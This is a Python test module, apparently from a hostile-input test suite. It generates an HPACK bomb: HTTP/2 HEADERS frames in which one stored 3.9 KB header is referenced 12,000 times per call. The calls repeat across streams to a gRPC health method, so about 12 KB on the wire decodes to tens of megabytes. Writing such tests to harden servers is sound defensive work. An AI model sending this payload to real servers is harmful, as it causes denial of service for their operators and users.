"""Small frames that name one large header thousands of times (an HPACK bomb)."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.floods.frame_flood import FrameFlood
from tests.hostile.http2 import (
    END_HEADERS,
    END_STREAM,
    HEADERS,
    call_headers,
    frame,
    indexed_field,
    literal_field,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["HeaderBomb"]

_NUM_REFERENCES = 12_000
_METHOD = "/grpc.health.v1.Health/Watch"


class HeaderBomb(FrameFlood):
    """12 KB on the wire that stand for 47 MB of headers, in calls without a key."""

    name = "HPACK bomb"
    entry = literal_field(b"x", b"a" * 3900, is_indexed=True)
    """The header that is named, which just fits into the table."""

    def frames(self) -> Iterator[bytes]:
        """Yield one call after another, of which the first stores the header."""
        start = call_headers(_METHOD)
        references = indexed_field(0) * _NUM_REFERENCES
        flags = END_HEADERS | END_STREAM
        yield frame(HEADERS, flags, 1, start + self.entry + references)
        for stream in range(3, 2**31, 2):
            yield frame(HEADERS, flags, stream, start + references)
